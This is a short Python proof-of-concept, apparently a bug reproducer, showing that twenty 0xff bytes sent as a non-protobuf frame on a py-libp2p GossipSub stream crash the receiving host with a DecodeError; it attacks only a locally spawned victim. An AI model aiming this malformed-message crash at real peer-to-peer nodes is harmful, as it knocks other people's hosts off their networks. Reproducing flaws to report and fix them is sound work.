"""Twenty bytes that are not protobuf, on a GossipSub stream, end the host."""

import sys

import trio
from google.protobuf.message import DecodeError
from libp2p import new_host
from libp2p.peer.peerinfo import PeerInfo
from libp2p.pubsub.gossipsub import GossipSub
from libp2p.pubsub.pubsub import Pubsub
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

LISTEN = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
MESHSUB = "/meshsub/1.1.0"


async def run_victim(victim, outcome):
    router = GossipSub([MESHSUB], 6, 4, 12, heartbeat_interval=1)
    pubsub = Pubsub(victim, router)
    try:
        async with victim.run(LISTEN):
            async with background_trio_service(pubsub), background_trio_service(router):
                await trio.sleep_forever()
    except BaseExceptionGroup as error:
        outcome.append(error)


async def main():
    victim, attacker, outcome = new_host(), new_host(), []
    attacker.set_stream_handler(MESHSUB, lambda _stream: trio.sleep_forever())
    async with trio.open_nursery() as nursery, attacker.run(LISTEN):
        nursery.start_soon(run_victim, victim, outcome)
        while not victim.get_addrs():
            await trio.sleep(0.05)
        await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
        stream = await attacker.new_stream(victim.get_id(), [MESHSUB])
        await stream.write(encode_varint_prefixed(b"\xff" * 20))
        with trio.move_on_after(10):
            while not outcome:
                await trio.sleep(0.1)
        nursery.cancel_scope.cancel()
    died = [one for one in outcome if one.subgroup(DecodeError)]
    for error in died:
        print("the victim's run() raised:", repr(error)[:300])
    return 0 if died else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
